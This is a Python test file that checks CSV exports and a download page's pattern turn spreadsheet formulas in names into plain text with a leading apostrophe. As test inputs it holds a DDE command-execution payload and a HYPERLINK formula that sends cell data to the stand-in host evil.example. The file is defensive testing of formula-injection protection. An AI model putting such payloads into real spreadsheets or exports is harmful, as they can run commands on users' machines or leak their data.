"""Formulas in names: every CSV that is handed out shows them and runs none."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from features.cells import FORMULA_STARTS, csv_text, plain_text
from features.sources.inventory_report import write_complaints
from features.table_files import write_frame

EVIL = tuple(f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS)
SPACED = ' =HYPERLINK("http://evil.example/?"&A1)'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def runs(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)


@pytest.mark.parametrize("kind", ["object", "str", "category"])
def test_no_text_of_a_frame_is_a_formula_and_numbers_stay_numbers(kind: str) -> None:
    names: Any = pd.Series([*EVIL, SPACED, None], dtype="object")
    frame = pd.DataFrame({"=name": names.astype(kind)})
    frame["y"] = np.linspace(-1e-7, 5, len(frame))
    head, *rows = cells(csv_text(frame))
    assert head == ["'=name", "y"]
    assert [row[0] for row in rows[:-1]] == [f"'{text}".replace("\r", "\n") for text in (*EVIL, SPACED)]
    assert not any(runs(cell) for row in rows for cell in row)
    assert [float(row[1]) for row in rows] == frame["y"].tolist()
    assert list(frame.columns) == ["=name", "y"], "the frame itself is left alone"


def test_a_line_end_within_a_name_begins_no_cell() -> None:
    for name in ("a\r=1+1", "a\n=1+1", "a\r\n=1+1"):
        assert cells(csv_text(pd.DataFrame({"x": [name]}))) == [["x"], ["a\n=1+1"]]


def test_columns_of_one_name_are_all_made_plain() -> None:
    frame = pd.DataFrame([["=1", "=2"]], columns=["a", "a"])
    assert cells(csv_text(frame)) == [["a", "a"], ["'=1", "'=2"]]


def test_files_of_tables_and_of_complaints_hold_none(tmp_path: Path) -> None:
    write_frame(pd.DataFrame({"unique_id": EVIL}), tmp_path / "a.csv")
    write_complaints([(1, "figure-unreadable", text) for text in (*EVIL, SPACED)], tmp_path / "b.csv")
    for name in ("a.csv", "b.csv"):
        text = (tmp_path / name).read_bytes().decode()
        assert not any(runs(cell) for row in cells(text) for cell in row), name


def test_the_page_makes_them_plain_as_the_api_does(root: Path) -> None:
    """The script's own test of a cell, taken from the file, on the same texts."""
    source = (root / "serving/pages/static/downloads.js").read_text(encoding="utf-8")
    found = re.search(r'typeof value === "string" && /(.+?)/\.test', source)
    assert found is not None
    pattern = re.compile(found[1])
    for text in (*EVIL, SPACED):
        assert pattern.match(text), text
    for text in ("aa-north", "1.5", "", "a=b"):
        assert not pattern.match(text), text


def test_no_module_writes_a_csv_past_it(root: Path) -> None:
    """A frame's own to_csv is called where texts are made plain, and for pictures' data, which has none."""
    told = subprocess.run(["git", "ls-files", "*.py"], cwd=root, capture_output=True, text=True, check=True)
    floors = ("features/", "models/", "training/", "insights/", "serving/")
    callers = {
        name
        for name in told.stdout.split()
        if name.startswith(floors) and ".to_csv(" in (root / name).read_text(encoding="utf-8")
    }
    assert callers == {"features/cells.py", "training/drawn.py"}


def test_an_apostrophe_is_all_that_is_added() -> None:
    assert plain_text("=1+1") == "'=1+1"
    assert plain_text(json.dumps({"a": 1})) == '{"a": 1}'
